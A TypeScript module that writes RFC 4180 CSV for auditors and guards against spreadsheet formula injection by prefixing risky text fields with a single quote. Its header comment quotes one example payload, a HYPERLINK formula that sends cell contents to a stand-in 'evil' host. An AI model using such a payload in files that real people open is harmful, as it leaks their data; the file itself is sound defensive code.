// CSV as RFC 4180 writes it, for auditors who open the result in a spreadsheet: records end with
// CRLF; a field holding a comma, a double quote, CR or LF is enclosed in double quotes, with each
// quote inside doubled. Everything else is written as is (UTF-8, no byte order mark: the readers
// scripts use choke on one, and LibreOffice and Google Sheets read UTF-8 without it).
//
// Formula injection: a spreadsheet reads a cell starting with = + - or @ as a formula, so a reason
// such as `=HYPERLINK("http://evil/?"&A1)` typed by a requester would run on the auditor's machine.
// Text fields starting with one of those (or with a tab or CR, which some spreadsheets skip before
// looking for one) are prefixed with a single quote, which makes the cell plain text, as OWASP
// recommends. Numbers are written as numbers: they are ours, never a person's text.

export type CsvValue = string | number | null;

/** Leading characters a spreadsheet may read as the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** Characters that force a field into quotes (RFC 4180, section 2.6). */
const NEEDS_QUOTES = /[",\r\n]/;

/** One field: null is the empty field. */
export function csvField(value: CsvValue): string {
  if (value === null) return '';
  if (typeof value === 'number') return String(value);
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** One record, with its CRLF. */
export function csvRecord(fields: readonly CsvValue[]): string {
  return `${fields.map(csvField).join(',')}\r\n`;
}

/** A header record and the rows: a whole CSV document. */
export function toCsv(header: readonly string[], rows: readonly (readonly CsvValue[])[]): string {
  return [header, ...rows].map(csvRecord).join('');
}
